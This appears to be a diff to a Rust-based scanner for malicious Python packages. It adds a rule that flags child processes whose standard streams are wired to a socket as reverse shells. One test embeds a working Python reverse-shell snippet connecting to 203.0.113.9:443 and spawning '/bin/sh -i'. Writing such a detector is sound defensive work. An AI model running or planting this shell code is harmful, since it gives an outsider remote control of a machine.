@@ -3,7 +3,7 @@
 use std::sync::LazyLock;
 
 use regex::Regex;
-use ruff_python_ast::ExprCall;
+use ruff_python_ast::{Expr, ExprCall};
 use ruff_text_size::Ranged;
 
 use crate::finding::{Category, ExecContext, Rule};
@@ -544,6 +544,37 @@ fn check_reverse_shell(checker: &mut Checker, call: &ExprCall) {
     {
         return;
     }
+    report_socket_wired_to_streams(checker, call, "os.dup2");
+}
+
+/// `Popen(['/bin/sh', '-i'], stdin=s.fileno(), stdout=s.fileno())`: the child's standard
+/// streams are a socket, as `os.dup2` makes them.
+fn check_streams_from_socket(checker: &mut Checker, call: &ExprCall, qualname: &str) {
+    let from_socket = |value: &Expr| {
+        let socket = match value {
+            Expr::Call(fileno) => match &*fileno.func {
+                Expr::Attribute(method) if method.attr.as_str() == "fileno" => &*method.value,
+                _ => return false,
+            },
+            other => other,
+        };
+        checker.qualname(socket).is_some_and(|q| {
+            q.starts_with("socket.socket()")
+                || q.starts_with("socket.create_connection()")
+                || q.contains("accept()")
+        })
+    };
+    let wired = ["stdin", "stdout", "stderr"]
+        .iter()
+        .filter_map(|stream| super::keyword(call, stream))
+        .any(from_socket);
+    if wired {
+        report_socket_wired_to_streams(checker, call, qualname);
+    }
+}
+
+/// Reports a socket wired to a program's standard streams by `how`.
+fn report_socket_wired_to_streams(checker: &mut Checker, call: &ExprCall, how: &str) {
     // A reverse shell connects out and hands the socket to a shell; a bind shell accepts and
     // does the same. Without a shell or an outward connection anywhere in the file it is a
     // worker pool or test server wiring a client to a child (pyspark's daemon).
@@ -553,9 +584,11 @@ fn check_reverse_shell(checker: &mut Checker, call: &ExprCall) {
         .any(|hint| memchr::memmem::find(text, hint.as_bytes()).is_some());
     let test = checker.context() == ExecContext::TestOrDocs;
     let message = if shell_or_connect {
-        "os.dup2 wires a socket to the standard streams: a reverse shell"
+        format!("{how} wires a socket to the standard streams: a reverse shell")
     } else {
-        "os.dup2 wires a socket to the standard streams (no shell or outward connection in the file)"
+        format!(
+            "{how} wires a socket to the standard streams (no shell or outward connection in the file)"
+        )
     };
     let severity = match (shell_or_connect, test) {
         (true, false) => 0.85,
@@ -566,7 +599,7 @@ fn check_reverse_shell(checker: &mut Checker, call: &ExprCall) {
     checker.report(
         &RULE,
         call.range(),
-        message.to_owned(),
+        message,
         severity,
         vec!["spawn", "reverse-shell"],
     );
@@ -597,6 +630,7 @@ pub fn check_call(checker: &mut Checker, call: &ExprCall, qualname: &str) {
     if !is_spawn(qualname) {
         return;
     }
+    check_streams_from_socket(checker, call, qualname);
     let context = checker.context();
     // `os.execv('/bin/sh', ['sh', '-c', cmd])`: the exec and spawn families name the program
     // first and pass the command line separately, as a list or as the remaining arguments.
@@ -1308,6 +1342,14 @@ mod tests {
     #![allow(clippy::expect_used)]
     use super::*;
     use crate::rules::testing::max_severity;
+
+    #[test]
+    fn a_child_given_a_socket_for_its_streams_is_a_reverse_shell() {
+        let code = "import socket, subprocess\ns = socket.socket()\ns.connect(('203.0.113.9', 443))\nsubprocess.Popen(['/bin/sh', '-i'], stdin=s.fileno(), stdout=s.fileno(), stderr=s.fileno())\n";
+        assert!(max_severity("p/pkg/__init__.py", code, "WH120") >= 0.85);
+        let logged = "import subprocess\nlog = open('out.log', 'w')\nsubprocess.Popen(['make'], stdout=log.fileno())\n";
+        assert!(max_severity("p/pkg/__init__.py", logged, "WH120") < 0.5);
+    }
 
     #[test]
     fn windows_shell_objects_and_pip_main_start_commands() {
